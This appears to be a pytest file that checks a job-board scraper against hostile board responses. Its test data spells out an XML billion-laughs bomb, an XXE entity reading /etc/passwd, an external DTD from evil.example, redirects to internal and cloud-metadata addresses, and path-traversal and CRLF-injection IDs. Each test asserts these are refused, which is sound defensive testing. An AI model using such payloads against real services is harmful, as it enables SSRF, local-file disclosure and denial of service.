"""Boards that answer with what no board has: how the run ends, what is kept of the source, and what is not asked."""

from __future__ import annotations

import json
from typing import Any

import pytest

from ramet.jobs.kinds import LISTING
from ramet.jobs.queries import switched_off
from tests.jobs.hostile.test_texts import API, greenhouse, job
from tests.jobs.running.conftest import EAGER, Desk
from tests.jobs.world.faults import bomb, busy, cut_off, garbled, hang, huge, redirect, trouble, wrong_json
from tests.jobs.world.messages import Asked, Reply, json_reply
from tests.jobs.world.openings import Opening, made_up
from tests.jobs.world.world import Action

pytestmark = pytest.mark.network

LIST = f"{API}/jobs"
PEOPLE = "https://job-boards.greenhouse.io/acme"
INSIDE = ("http://10.0.0.1/", "https://127.0.0.1:8443/", "http://[::1]/", "http://169.254.169.254/latest/meta-data/")
BILLION = (
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">'
    + "".join(f'<!ENTITY {chr(98 + at)} "{f"&{chr(97 + at)};" * 10}">' for at in range(9))
    + "]>"
)
OUTSIDE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
DTD = (
    '<?xml version="1.0"?><!DOCTYPE x SYSTEM "https://evil.example/x.dtd" [<!ENTITY % p SYSTEM "http://10.0.0.1/">%p;]>'
)


async def enabled(desk: Desk, count: int = 3) -> str:
    """A Greenhouse board with an enabled source and a run behind it."""
    await desk.set(**EAGER)
    await desk.discover(greenhouse(desk, [job(number) for number in range(1, count + 1)]), approved=True)
    assert len(await desk.listings()) == count
    return "greenhouse:acme"


@pytest.mark.parametrize(
    "body",
    [
        b"", b"null", b"[]", b"{}", b"0", b'"jobs"', b'{"jobs": null}', b'{"jobs": {}}', b'{"jobs": "none"}',
        b'{"jobs": [1, null, "x", []]}', b'{"jobs": [{}]}', b'{"jobs": [{"title": {}, "absolute_url": []}]}',
        b"<!doctype html><title>Sign in</title>", b"{" * 100_000, b"[" * 1_000_000,
        b'{"jobs": [' + b"9" * 5_000 + b"]}",
        b'{"jobs": [NaN, Infinity]}', b"\xff\xfe\x00", b'{"error": "' + b"x" * 1_000_000 + b'"}', bytes(range(256)),
        b'{"jobs": [], "meta": {"total": 7}}',
    ],
)  # fmt: skip
async def test_an_answer_of_another_shape_ends_the_run_at_once_and_keeps_the_listings(desk: Desk, body: bytes) -> None:
    source_id = await enabled(desk)
    desk.world.answer(LIST, Reply(body, media_type="application/json"))
    run = await desk.scrape(source_id)
    assert (run.state, run.attempts) == ("failed", 1)
    status, last, most, note = await desk.one("jobs_sources", "status, last_status, most_listings, note")
    assert (status, last, most) == ("active", "error", 3)
    assert note == run.reason
    assert len(note) < 1_000
    assert note.isprintable()
    assert await desk.rows("jobs_listings", "status, closed_at") == [("matched", None)] * 3


@pytest.mark.parametrize("target", INSIDE)
async def test_a_list_that_leads_into_this_network_is_refused(desk: Desk, target: str) -> None:
    source_id = await enabled(desk)
    desk.world.behave(LIST, redirect(target), forever=True)
    asked = len(desk.world.requests)
    run = await desk.scrape(source_id)
    assert (run.state, run.attempts) == ("failed", 1)
    assert {one.host for one in desk.world.requests[asked:]} == {"boards-api.greenhouse.io"}
    assert await desk.one("jobs_sources", "status, last_status, note") == ("active", "error", run.reason)


@pytest.mark.parametrize(
    ("play", "attempts"),
    [(huge(50), 1), (bomb(50), 1), (trouble(), 4), (cut_off(), 4), (garbled(), 4), (hang(), 4)],
    ids=["huge", "bomb", "500", "cut off", "garbled", "hangs"],
)
async def test_a_list_that_cannot_be_read_is_one_failed_run(desk: Desk, play: Action, attempts: int) -> None:
    source_id = await enabled(desk)
    await desk.set(fetch__answer_seconds=5 if attempts == 1 else 0.5)
    desk.world.behave(LIST, play, forever=True)
    run = await desk.scrape(source_id)
    desk.world.release()
    assert (run.state, run.attempts) == ("failed", attempts)
    status, note = await desk.one("jobs_sources", "last_status, note")
    assert status == "error"
    assert "boards-api.greenhouse.io" in note
    [resource] = [one for one in await desk.client.resources() if one.name.endswith(source_id)]
    assert resource.failures == 1


async def test_five_answers_of_a_wrong_shape_disable_a_source(desk: Desk) -> None:
    source_id = await enabled(desk)
    desk.world.behave(LIST, wrong_json(), forever=True)
    for _ in range(5):
        await desk.scrape(source_id)
    assert source_id in await switched_off(desk.client)


async def test_a_board_that_is_busy_for_hours_is_skipped_and_its_breaker_does_not_count_it(desk: Desk) -> None:
    source_id = await enabled(desk)
    desk.world.behave(LIST, busy(3_600), forever=True)
    run = await desk.scrape(source_id)
    assert run.state == "skipped"
    assert "busy: " in str(run.reason)
    assert source_id not in await switched_off(desk.client)
    assert sum(one.failures for one in await desk.client.resources() if one.name.endswith(source_id)) == 0


@pytest.mark.parametrize("head", [BILLION, OUTSIDE, DTD], ids=["bomb", "file", "dtd"])
@pytest.mark.parametrize("kind", ["personio", "rss"])
async def test_entities_of_xml_are_refused_and_nothing_is_read_or_asked_for_them(
    desk: Desk, kind: str, head: str
) -> None:
    await desk.set(**EAGER)
    token = "https://acme.example/jobs/feed.rss" if kind == "rss" else "acme"
    board = desk.world.board(kind, token, [Opening("1", "Python Engineer")], company="Acme")
    reply = desk.world._answer(Asked("GET", *_parts(board.list_url), {}, b"", 0.0))
    assert isinstance(reply, Reply)
    text = reply.body.decode()
    text = head + text[text.index("?>") + 2 :].replace("Python Engineer", "Python Engineer &a;&j;")
    await desk.discover(token if kind == "rss" else board.url, approved=True, company_name="Acme")
    desk.world.answer(board.list_url, Reply(text.encode(), media_type="application/xml"))
    run = await desk.scrape((await desk.one("jobs_sources", "source_id"))[0])
    assert (run.state, run.attempts) == ("failed", 1)
    assert "entit" in str(run.reason)
    assert await desk.listings() == {"Python Engineer": "matched"}
    assert not desk.world.asked("https://evil.example")


def _parts(url: str) -> tuple[str, str, str]:
    scheme, _, rest = url.partition("://")
    host, _, path = rest.partition("/")
    return scheme, host, f"/{path}"


async def test_a_board_that_shows_its_first_page_for_ever_ends_after_two(desk: Desk) -> None:
    await desk.set(**EAGER)
    board = desk.world.board("lever", "acme", made_up(100), company="Acme")
    first = desk.world._answer(Asked("GET", *_parts(f"{board.list_url}?mode=json&skip=0&limit=100"), {}, b"", 0.0))
    assert isinstance(first, Reply)
    desk.world.answer(board.list_url, first)
    await desk.discover(board.url, approved=True, company_name="Acme")
    assert len(await desk.rows("jobs_listings", "listing_id")) <= 100
    pages = [one for one in desk.world.asked(board.list_url) if one.query.get("skip") not in ("0", None)]
    assert len(pages) == 1
    assert (await desk.one("jobs_sources", "last_status"))[0] == "success"


@pytest.mark.parametrize(("pages", "size_max"), [(60, 4_000), pytest.param(300, 20_000, marks=pytest.mark.nightly)])
async def test_a_board_of_endless_pages_ends_at_the_setting_and_its_state_stays_small(
    desk: Desk, pages: int, size_max: int
) -> None:
    await desk.set(**EAGER, source__pages_max=pages)

    def endless(asked: Asked) -> Reply:
        skip = int(asked.query.get("skip", "0"))
        rows = [
            {"id": f"{skip}-{at}", "text": f"Sales Engineer {skip + at}", "categories": {"location": "Portland, OR"},
             "hostedUrl": f"https://jobs.lever.co/acme/{skip}-{at}", "descriptionPlain": "x"}
            for at in range(int(asked.query.get("limit", "100")))
        ]  # fmt: skip
        return json_reply(rows)

    await desk.set(filter__excluded_job_types=["sales"])
    desk.world.handle("https://api.lever.co/v0/postings/acme", endless)
    await desk.discover("https://jobs.lever.co/acme", approved=True, company_name="Acme")
    runs = [task async for task in desk.client.all_tasks(kind="SCRAPE_SOURCE")]
    assert [run.state for run in runs] == ["success"]
    assert (await desk.client.result(runs[0].id))["ended"] == f"{pages} pages"
    [(size,)] = await desk.client.read("SELECT MAX(LENGTH(pipeline_state)) FROM ramet_checkpoints")
    assert 0 < size < size_max


@pytest.mark.parametrize("total", [10**9, -1, 1e308, "10**9", None, [], 10**400])
async def test_a_board_that_lies_about_its_total_is_asked_for_what_it_has(desk: Desk, total: Any) -> None:
    await desk.set(**EAGER)
    rows = made_up(150)
    board = desk.world.board("smartrecruiters", "acme", rows, company="Acme")
    kept = desk.world._handlers[("api.smartrecruiters.com", "/v1/companies/acme/postings")]
    assert callable(kept)

    def lying(asked: Asked) -> Reply:
        value = json.loads(kept(asked).body)
        return json_reply(value | {"totalFound": total})

    desk.world.handle(board.list_url, lying)
    task = await desk.discover(board.url, approved=True, company_name="Acme")
    assert task.state in ("success", "failed"), task.reason
    assert len(desk.world.asked(board.list_url)) < 10
    if total == 10**9:
        assert len(await desk.rows("jobs_listings", "listing_id")) == len(rows)


async def test_a_detail_call_that_leads_into_this_network_leaves_the_listing_unknown(desk: Desk) -> None:
    await desk.set(**EAGER)
    board = desk.world.board("smartrecruiters", "acme", made_up(3), company="Acme")
    number = made_up(1)[0].id
    desk.world.behave(f"{board.list_url}/{number}", redirect("http://169.254.169.254/"), forever=True)
    task = await desk.discover(board.url, approved=True, company_name="Acme")
    assert task.state == "success"
    statuses = [row[0] for row in await desk.rows("jobs_listings", "status")]
    assert sorted(statuses)[-1] == "unknown"
    assert statuses.count("unknown") == 1
    assert all(one.host != "169.254.169.254" for one in desk.world.requests)


async def test_a_list_row_cannot_choose_whom_the_detail_call_asks(desk: Desk) -> None:
    await desk.set(**EAGER)
    board = desk.world.board("smartrecruiters", "acme", made_up(1), company="Acme")
    row = {"id": "../../../../evil", "name": "Python Engineer", "ref": "http://10.0.0.1/x", "releasedDate": None}
    others = [
        row | {"id": value}
        for value in ("1?x=", "1#", "1/../2", "@evil.example/", "//evil.example/", "1\r\nHost: evil.example", "%2e%2e/")
    ]
    desk.world.answer(board.list_url, json_reply({"totalFound": 8, "content": [row, *others]}))
    await desk.discover(board.url, approved=True, company_name="Acme")
    assert {one.host for one in desk.world.requests} <= {"api.smartrecruiters.com", "jobs.smartrecruiters.com"}


async def test_two_rows_of_one_number_and_one_address_are_one_listing_each(desk: Desk) -> None:
    await desk.set(**EAGER)
    rows = [job(1), job(1, title="Other", absolute_url=f"{PEOPLE}/jobs/1"), job(2, absolute_url=f"{PEOPLE}/jobs/1")]
    task = await desk.discover(greenhouse(desk, rows), approved=True)
    assert task.state == "success"
    listings = await desk.rows("jobs_listings", "url, external_id, status")
    assert len({url for url, _, _ in listings}) == len(listings)
    again = await desk.scrape("greenhouse:acme")
    assert (again.state, again.result["spawned"]) == ("success", 0)


async def test_a_listing_on_a_stopped_host_gets_no_task(desk: Desk) -> None:
    await desk.set(**EAGER, stop__domains=["evil.example"])
    rows = [job(1), job(2, absolute_url="https://jobs.evil.example/2")]
    await desk.discover(greenhouse(desk, rows), approved=True)
    assert (await desk.listings())["Python Engineer 2"] == "refused"
    assert [task.state async for task in desk.client.all_tasks(kind=LISTING)] == ["success"]
    [(reason,)] = await desk.rows("jobs_listings", "reason", "status = 'refused'")
    assert reason == "stop list: domain evil.example"
